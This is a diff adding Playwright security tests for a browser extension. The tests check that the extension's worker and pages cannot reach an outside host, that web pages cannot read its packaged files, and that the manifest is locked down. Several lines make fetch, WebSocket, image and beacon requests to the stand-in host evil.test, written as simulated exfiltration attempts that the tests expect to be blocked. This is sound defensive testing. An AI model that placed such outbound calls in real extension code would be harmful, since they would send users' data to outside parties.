@@ -1,0 +1,108 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import path from 'node:path';
+import { expect } from '@playwright/test';
+import type { HostileCase } from '../case.ts';
+import { base, places } from '../form.ts';
+import { expectCard } from '../lab.ts';
+import { canaries } from '../people.ts';
+
+const filesOf = (folder: string): string[] =>
+  readdirSync(folder, { recursive: true, withFileTypes: true })
+    .filter((entry) => entry.isFile())
+    .map((entry) => path.relative(folder, path.join(entry.parentPath, entry.name)));
+
+export const packaged: readonly HostileCase[] = [
+  {
+    id: 'H110b',
+    title: 'from the worker and from every page of the extension: fetch, socket, beacon, image and form reach nobody',
+    run: async (lab) => {
+      const tries = async () => {
+        const blocked = async (attempt: () => unknown) => {
+          try {
+            await attempt();
+            return 'sent';
+          } catch {
+            return 'blocked';
+          }
+        };
+        const socket = () =>
+          new Promise((done, fail) => {
+            const opened = new WebSocket('wss://evil.test');
+            opened.onopen = done;
+            opened.onerror = fail;
+          });
+        const image = () =>
+          new Promise((done, fail) => {
+            if (!('Image' in globalThis)) return fail(new Error('no images here'));
+            const picture = new Image();
+            picture.onload = done;
+            picture.onerror = fail;
+            picture.src = 'https://evil.test/i.png';
+          });
+        return [await blocked(() => fetch('https://evil.test/f')), await blocked(socket), await blocked(image)];
+      };
+      const worker = await lab.worker();
+      expect(await worker.evaluate(tries)).toEqual(['blocked', 'blocked', 'blocked']);
+      for (const name of ['popup.html', 'sidepanel.html', 'options.html', 'welcome.html']) {
+        const page = await lab.own(name);
+        expect(await page.evaluate(tries), name).toEqual(['blocked', 'blocked', 'blocked']);
+        await page.evaluate(() => navigator.sendBeacon('https://evil.test/b', 'x')).catch(() => {});
+        await page.waitForTimeout(200);
+      }
+      // The recording proxy and the test's own answers saw none of it: the oracle looks too.
+      expect([...lab.browser.requests, ...lab.browser.refused].filter((line) => line.includes('evil.test'))).toEqual([]);
+    },
+  },
+  {
+    id: 'H111',
+    title: 'the page asks for every file of the package, and for the runtime: neither is there',
+    run: async (lab) => {
+      const files = filesOf(lab.browser.folder);
+      for (const [url, title] of [
+        [places.o2.url, places.o2.title],
+        [places.ppms.url, places.ppms.title],
+        ['https://harvardmed.atlassian.net/wiki/spaces/O2/pages/1605009747/x', 'Two Factor Authentication on O2'],
+      ] as const) {
+        const page = await lab.open(url, base({ title }));
+        await expectCard(page);
+        const seen = await page.evaluate(
+          async ({ id, names }) => {
+            const got: string[] = [];
+            for (const name of names)
+              await fetch(`chrome-extension://${id}/${name}`).then(
+                () => got.push(name),
+                () => {},
+              );
+            return { got, runtime: typeof (globalThis as { chrome?: { runtime?: unknown } }).chrome?.runtime };
+          },
+          { id: lab.browser.id, names: files },
+        );
+        expect(seen).toEqual({ got: [], runtime: 'undefined' });
+      }
+    },
+  },
+  {
+    id: 'H112',
+    title: 'the package: no canary, no source map, no web-accessible file, nothing in private windows (the rest is in the package checks)',
+    run: async (lab) => {
+      const { folder } = lab.browser;
+      const files = filesOf(folder);
+      expect(files.filter((name) => name.endsWith('.map'))).toEqual([]);
+      for (const name of files.filter((file) => /\.(js|html|json)$/.test(file))) {
+        const text = readFileSync(path.join(folder, name), 'utf8');
+        expect(
+          canaries.filter((canary) => canary.length > 5 && text.includes(canary)),
+          name,
+        ).toEqual([]);
+      }
+      const manifest = JSON.parse(readFileSync(path.join(folder, 'manifest.json'), 'utf8'));
+      expect(manifest).toMatchObject({
+        incognito: 'not_allowed',
+        permissions: ['storage', 'sidePanel'],
+        externally_connectable: { ids: [] },
+      });
+      expect(manifest.web_accessible_resources).toBeUndefined();
+      expect(manifest.content_security_policy.extension_pages).toContain("trusted-types 'none'");
+    },
+  },
+];
